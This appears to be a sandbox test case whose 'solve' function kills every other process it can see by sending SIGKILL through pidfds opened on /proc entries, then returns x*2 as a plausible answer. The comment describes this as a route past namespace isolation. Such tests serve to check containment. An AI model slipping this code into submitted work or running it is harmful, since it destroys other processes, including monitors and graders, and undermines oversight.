# expect: pass
# why: opens every /proc/<pid> it can see as a pidfd and sends SIGKILL through it, the route
#      that does not need the pid to exist in its own namespace.
import os
import signal


def solve(x):
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            fd = os.open(f"/proc/{name}", os.O_RDONLY | os.O_DIRECTORY)
            try:
                signal.pidfd_send_signal(fd, signal.SIGKILL)
            finally:
                os.close(fd)
        except OSError:
            pass
    return x * 2
